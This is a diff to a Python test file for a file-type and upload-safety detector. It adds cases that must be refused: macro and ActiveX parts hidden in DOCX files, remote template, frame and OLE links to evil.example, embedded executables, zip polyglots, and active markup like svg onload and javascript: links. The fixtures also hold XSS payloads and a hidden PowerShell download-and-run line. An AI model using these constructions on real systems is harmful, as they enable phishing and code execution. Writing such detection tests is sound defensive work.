@@ -10,6 +10,7 @@ import random
 import struct
 import tarfile
 import zipfile
+import zlib
 from collections.abc import Callable
 from functools import cache
 
@@ -318,6 +319,210 @@ def test_macro_enabled_docx_is_a_script() -> None:
     assert _refusal(docm).code == "script"
 
 
+# --- DOCX parts ----------------------------------------------------------------------------------------
+
+RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+VBA_RELATIONSHIP = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
+OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)  # an OLE compound file header (what vbaProject.bin is)
+
+
+def _parts(zip_bytes: bytes) -> dict[str, bytes]:
+    with zipfile.ZipFile(io.BytesIO(zip_bytes)) as source:
+        return {info.filename: source.read(info) for info in source.infolist()}
+
+
+def _edited(parts: dict[str, bytes], name: str, before: bytes, insert: bytes) -> dict[str, bytes]:
+    """A copy of the parts with `insert` put in front of the first `before` in one part."""
+    assert before in parts[name]
+    return {**parts, name: parts[name].replace(before, insert + before, 1)}
+
+
+def _relationship(kind: str, target: str, external: bool = True) -> bytes:
+    mode = ' TargetMode="External"' if external else ""
+    return f'<Relationship Id="rIdX" Type="{kind}" Target="{target}"{mode}/>'.encode()
+
+
+def _settings_rels(*relationships: bytes) -> bytes:
+    return (
+        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        + (b"".join(relationships) + b"</Relationships>")
+    )
+
+
+def _renamed_vba() -> bytes:
+    """vbaProject.bin under an innocent name, declared through its content type and relationship."""
+    parts = _edited(
+        _parts(_docx()),
+        "[Content_Types].xml",
+        b"</Types>",
+        b'<Override PartName="/word/media/logo.png" ContentType="application/vnd.ms-office.vbaProject"/>',
+    )
+    parts = _edited(
+        parts,
+        "word/_rels/document.xml.rels",
+        b"</Relationships>",
+        _relationship(VBA_RELATIONSHIP, "media/logo.png", False),
+    )
+    return _zip({**parts, "word/media/logo.png": OLE})
+
+
+class _Unseekable(io.RawIOBase):
+    """Output without tell/seek: zipfile then writes each entry's sizes in a data descriptor after its data."""
+
+    def __init__(self) -> None:
+        self.data = bytearray()
+
+    def writable(self) -> bool:
+        return True
+
+    def write(self, data: bytes) -> int:  # type: ignore[override]
+        self.data += data
+        return len(data)
+
+
+def _streamed_zip(entries: dict[str, bytes]) -> bytes:
+    out = _Unseekable()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in entries.items():
+            archive.writestr(name, data)
+    return bytes(out.data)
+
+
+def _with_gap(zip_bytes: bytes, gap: bytes) -> bytes:
+    """Bytes slipped in before the central directory, its offset in the end record moved to match."""
+    eocd = zip_bytes.rindex(b"PK\x05\x06")
+    (directory,) = struct.unpack_from("<I", zip_bytes, eocd + 16)
+    end = bytearray(zip_bytes[eocd:])
+    struct.pack_into("<I", end, 16, directory + len(gap))
+    return zip_bytes[:directory] + gap + zip_bytes[directory:eocd] + bytes(end)
+
+
+@cache
+def _rich_docx() -> bytes:
+    """python-docx with a picture, a table, a header and an external hyperlink: what real reports hold."""
+    document = docx.Document()
+    document.add_heading("Inspection", level=1)
+    document.sections[0].header.paragraphs[0].text = "Header"
+    table = document.add_table(rows=2, cols=2)
+    table.cell(0, 0).text = "cell"
+    document.add_picture(io.BytesIO(_image("PNG")))
+    document.part.relate_to("https://example.com/report", f"{RELS}/hyperlink", is_external=True)
+    out = io.BytesIO()
+    document.save(out)
+    return out.getvalue()
+
+
+def test_real_docx_with_picture_header_and_hyperlink_is_accepted() -> None:
+    assert b'TargetMode="External"' in _parts(_rich_docx())["word/_rels/document.xml.rels"]
+    for chunk in (997, 65536, MIB):
+        assert _feed(_rich_docx(), chunk).format == "docx"
+
+
+def test_docx_with_data_descriptors_is_accepted() -> None:
+    streamed = _streamed_zip(_parts(_rich_docx()))
+    assert struct.unpack_from("<H", streamed, 6)[0] & 0x8  # sizes after the data, as streaming writers do
+    for chunk in (997, MIB):
+        assert _feed(streamed, chunk).format == "docx"
+
+
+@pytest.mark.parametrize(
+    ("make", "code"),
+    [
+        (_renamed_vba, "script"),
+        (lambda: _zip({**_parts(_docx()), "word/media/image9.png": OLE}), "script"),  # OLE bytes, no declaration
+        (
+            lambda: _zip(
+                _edited(
+                    _parts(_docx()),
+                    "[Content_Types].xml",
+                    b"</Types>",
+                    b'<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.activeX"/>',
+                )
+            ),
+            "script",
+        ),
+        (
+            lambda: _zip(
+                {
+                    **_parts(_docx()),
+                    "[Content_Types].xml": _parts(_docx())["[Content_Types].xml"].replace(
+                        b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml"
+                    ),
+                }
+            ),
+            "script",
+        ),
+        (lambda: _zip({**_parts(_docx()), "word/media/update.exe": PE + random.Random(9).randbytes(5000)}), "polyglot"),
+        (lambda: _zip({**_parts(_docx()), "word/embeddings/tool": ELF + bytes(5000)}), "polyglot"),
+        (lambda: _streamed_zip({**_parts(_docx()), "word/media/update.exe": PE + bytes(70_000)}), "polyglot"),
+        (
+            lambda: _zip(
+                {
+                    **_parts(_docx()),
+                    "word/_rels/settings.xml.rels": _settings_rels(
+                        _relationship(f"{RELS}/attachedTemplate", "http://evil.example/t.dotm")
+                    ),
+                }
+            ),
+            "script",
+        ),
+        (
+            lambda: _zip(
+                _edited(
+                    _parts(_docx()),
+                    "word/_rels/document.xml.rels",
+                    b"</Relationships>",
+                    _relationship(f"{RELS}/frame", "http://evil.example/frame.html"),
+                )
+            ),
+            "script",
+        ),
+        (
+            lambda: _zip(
+                _edited(
+                    _parts(_docx()),
+                    "word/_rels/document.xml.rels",
+                    b"</Relationships>",
+                    _relationship(f"{RELS}/oleObject", "file://evil.example/share/x.xls"),
+                )
+            ),
+            "script",
+        ),
+        (
+            lambda: _zip(
+                {
+                    **_parts(_docx()),
+                    "word/_rels/settings.xml.rels": _settings_rels(
+                        _relationship(f"{RELS}/attachedTemplate", "&#104;ttp://evil.example/t.dotm").replace(
+                            b'TargetMode="External"', b'TargetMode="&#69;xternal"'
+                        )
+                    ),
+                }
+            ),
+            "script",
+        ),  # character references are decoded like Word decodes them
+        (lambda: _with_gap(_docx(), zlib.compress(PE)), "polyglot"),
+        (lambda: _with_gap(_docx(), _zip({"word/hidden.xml": b"<x/>"})[:-22]), "polyglot"),
+        (
+            lambda: _zip({**_parts(_docx()), "word/_rels/x.rels": b'<!DOCTYPE x [<!ENTITY a "b">]><Relationships/>'}),
+            "unsupported_media_type",
+        ),
+        (
+            lambda: _zip({**_parts(_docx()), "[Content_Types].xml": b"<Types>" + b" " * (2 * MIB) + b"</Types>"}),
+            "unsupported_media_type",
+        ),
+    ],
+    ids=[
+        "renamed-vba", "ole-bytes-only", "activex-type", "macro-enabled-main", "deflated-exe", "deflated-elf",
+        "streamed-exe", "remote-template", "remote-frame", "remote-ole", "encoded-remote-template",
+        "bytes-before-directory", "entry-missing-from-directory", "dtd-in-rels", "huge-content-types",
+    ],
+)  # fmt: skip
+def test_docx_active_parts_are_refused(make: Callable[[], bytes], code: str) -> None:
+    data = make()
+    assert _outcome(data, 997) == _outcome(data, MIB) == code
+
+
 @pytest.mark.parametrize(
     "data",
     [
@@ -333,6 +538,98 @@ def test_macro_enabled_docx_is_a_script() -> None:
 )
 def test_scripts(data: bytes) -> None:
     assert _refusal(data, filename="notes.md").code == "script"
+
+
+@pytest.mark.parametrize(
+    ("filename", "data"),
+    [
+        ("update.hta", b"Hello, this looks like text.\n"),
+        ("UPDATE.HTA", b"Hello, this looks like text.\n"),
+        ("run.js", b'var shell = 1;\nshell = shell + 1;\n'),
+        ("run.bat", b"calc.exe\r\n"),
+        ("run.ps1", b"Get-Process | Stop-Process\n"),
+        ("run.vbs", b'MsgBox "hello"\n'),
+        ("link.url", b"[InternetShortcut]\r\nURL=file://evil.example/share/x.exe\r\n"),
+        ("page.svg", b"Not even markup.\n"),
+        (None, b"@echo off\r\ncalc.exe\r\n"),
+        ("data.dat", b'Set shell = CreateObject("WScript.Shell")\nshell.Run "calc"\n'),
+        ("notes", b"[InternetShortcut]\r\nURL=https://evil.example/\r\n"),
+        (None, b"powershell -nop -w hidden -c \"Invoke-Expression (iwr evil.example)\"\n"),
+        ("reg", b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software]\r\n"),
+    ],
+    ids=[
+        "hta", "hta-upper", "js", "bat", "ps1", "vbs", "url", "svg-name", "batch-content", "vbs-content",
+        "url-content", "powershell-content", "reg-content",
+    ],
+)  # fmt: skip
+def test_scripts_without_a_shebang(filename: str | None, data: bytes) -> None:
+    assert _refusal(data, filename=filename).code == "script"
+
+
+@pytest.mark.parametrize(
+    ("data", "filename", "fmt"),
+    [
+        (b"# Events\n\n```js\nbutton.onclick = () => { one = 1 };\nif (a < b && done) run();\n```\n", "app.md", "md"),
+        (b"To run it:\n\n    @echo off\n    powershell -File build.ps1\n", "howto.txt", "txt"),
+        (b"# Batch files\n\n```bat\n@echo off\nset x = CreateObject(1)\n```\n", "bat.md", "md"),
+        (b"Use <b>bold</b> and <kbd>Ctrl</kbd>; the one = 2 rule.\n", "notes.md", "md"),
+        (b"The word javascript: is just prose here, and so is onload = later.\n", None, "txt"),
+    ],
+    ids=["md-js-fence", "txt-batch-lines", "md-batch-fence", "md-inline-html", "prose-mentions"],
+)
+def test_prose_showing_code_is_still_text(data: bytes, filename: str | None, fmt: str) -> None:
+    assert detect(data, filename).format == fmt
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        b"<!-- a harmless comment -->\n<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
+        b"junk line\nmore junk\n<svg/onload=alert(1)>",
+        b"Hello <img src=x onerror=alert(1)> world\n",
+        b"Look: <iframe src='https://evil.example'></iframe>\n",
+        b"<meta http-equiv='refresh' content='0;url=https://evil.example'>\n",
+        b"# Click\n\n[here](javascript:alert(1))\n",
+        b'<a href="javascript:alert(1)">x</a>\n',
+        b"<hta:application id='x' />\n<p>text</p>\n",
+        b'<job id="x"><runat>x</runat></job>\n',
+        b"plain words " * 8000 + b"<body onload=alert(1)>",  # past the head: active markup is watched everywhere
+    ],
+    ids=[
+        "comment-then-svg", "junk-then-svg", "img-onerror", "iframe", "meta-refresh", "md-js-link", "js-href",
+        "hta", "wsf-job", "late-onload",
+    ],
+)  # fmt: skip
+def test_active_markup_anywhere_is_a_script(data: bytes) -> None:
+    assert _refusal(data, filename="notes.md").code == "script"
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        b"<!-- comment -->\n<html><p>hi</p></html>",
+        b"\xef\xbb\xbf \n\n<!DOCTYPE html><p>hi</p>",
+        b"a few lines\nof junk\nfirst\n<svg xmlns='http://www.w3.org/2000/svg'><rect/></svg>",
+        b"plain words " * 5000 + b"<html><p>hi</p></html>",  # inside the 64 KiB head
+        ("UTF-16 first, then <html>".encode("utf-16")),
+    ],
+    ids=["comment-then-html", "bom-doctype", "junk-then-svg", "html-deep-in-head", "utf16-html"],
+)
+def test_markup_anywhere_in_the_head_is_refused(data: bytes) -> None:
+    assert _refusal(data, filename="notes.txt").code == "unsupported_media_type"
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        b"<html><script>alert(1)</script><!--\n" + _pdf(),
+        b"<!-- x -->\n<svg onload=alert(1)>\n" + _pdf(),
+        _pdf()[:9] + b"%<html><body>hello</body></html>\n" + _pdf()[9:],
+    ],
+    ids=["html-then-pdf", "svg-then-pdf", "html-in-pdf-head"],
+)
+def test_html_pdf_polyglots(data: bytes) -> None:
+    assert _refusal(data, filename="update.hta").code == "polyglot"
 
 
 @pytest.mark.parametrize(
@@ -458,6 +755,11 @@ SMALL_CASES: dict[str, tuple[Callable[[], bytes], str]] = {
     "text+script": (lambda: b"x" * 4090 + b"<script>", "script"),
     "elf": (lambda: ELF, "executable"),
     "html": (lambda: b"<html>" + b" " * 5000 + b"<script>alert(1)</script></html>", "script"),
+    "html-late-in-head": (lambda: b"words " * 10_000 + b"<html><p>x</p></html>", "unsupported_media_type"),
+    "svg-after-comment": (lambda: b"<!-- c -->" + b" " * 5000 + b"<svg onload=alert(1)>", "script"),
+    "handler-past-head": (lambda: b"words " * 11_000 + b"<div\n  title='x'\n  onclick='y'>", "script"),
+    "batch": (lambda: b"rem setup\r\n" * 500 + b"@echo off\r\n", "script"),
+    "html+pdf": (lambda: b"<html><body>x</body></html>\n" + _pdf(), "polyglot"),
     "random": (lambda: random.Random(7).randbytes(5000), "unsupported_media_type"),
 }
 LARGER_CASES: dict[str, tuple[Callable[[], bytes], str]] = {
